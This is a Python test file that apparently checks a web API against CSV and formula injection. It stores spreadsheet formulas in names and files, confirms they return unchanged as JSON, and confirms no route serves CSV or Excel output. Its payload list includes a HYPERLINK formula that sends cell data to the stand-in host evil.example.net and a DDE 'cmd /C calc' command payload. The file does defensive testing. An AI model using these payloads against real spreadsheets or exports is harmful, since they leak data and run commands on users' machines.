"""A text that a spreadsheet would run is a text here: it comes back unchanged, as JSON, and never as CSV."""

from __future__ import annotations

import json
from io import BytesIO
from typing import Any

import pytest

from app.accounts.models import User
from tests.accounts.factory import bearer
from tests.attacks.conftest import Attacker

FORMULAS = ["=1+1", '=HYPERLINK("https://evil.example.net?"&A1)', "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)"]
ME, KEYS, FILES = "/api/v1/users/me", "/api/v1/api-keys", "/api/v1/data-files"
EXPORT = f"{ME}/data-export"


@pytest.fixture
def headers(attacker: Attacker, user: User) -> dict[str, str]:
    return bearer(attacker.app, user)


def texts(value: Any) -> set[str]:
    """Every text in a JSON document."""
    match value:
        case dict():
            return set().union(*map(texts, value.values()))
        case list():
            return set().union(*map(texts, value))
        case str():
            return {value}
        case _:
            return set()


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.req("P3", "A6")
def test_a_formula_comes_back_as_it_was(attacker: Attacker, headers: dict[str, str], formula: str) -> None:
    client = attacker.app.test_client()

    named = client.patch(ME, json={"display_name": formula}, headers=headers).get_json()
    made = client.post(KEYS, json={"name": f"{formula} key", "scopes": ["files:read"]}, headers=headers).get_json()
    exported = client.get(EXPORT, headers=headers, buffered=True)

    assert (named["display_name"], made["name"]) == (formula, f"{formula} key")
    assert {formula, f"{formula} key"} <= texts(exported.get_json())


@pytest.mark.parametrize("first", "=+-@")
@pytest.mark.req("P3", "A4")
def test_a_file_keeps_a_name_and_a_content_that_are_formulas(
    attacker: Attacker, headers: dict[str, str], first: str
) -> None:
    client, name, content = attacker.app.test_client(), f"{first}1+1.csv", f"{first}a,b\n{first}1,2\n".encode()

    kept = client.post(FILES, data={"file": (BytesIO(content), name)}, headers=headers).get_json()
    given_back = client.get(f"{FILES}/{kept['id']}/content", headers=headers, buffered=True)
    exported = client.get(EXPORT, headers=headers, buffered=True)

    assert kept["name"] == name
    assert (given_back.data, given_back.headers["Content-Disposition"][:10]) == (content, "attachment")
    assert name in texts(exported.get_json())


@pytest.mark.req("P3")
def test_no_route_answers_with_a_table(attacker: Attacker) -> None:
    wanted = {"Accept": "text/csv, application/vnd.ms-excel, text/html, */*;q=0.1"}
    for route in attacker.routes():
        if "/content" in route.rule.rule:  # gives a file back as it was given
            continue
        answer = attacker.open(route, headers=wanted)

        if answer.status_code != 204:
            assert answer.content_type in ("application/json", "application/problem+json"), route
            json.loads(answer.text)
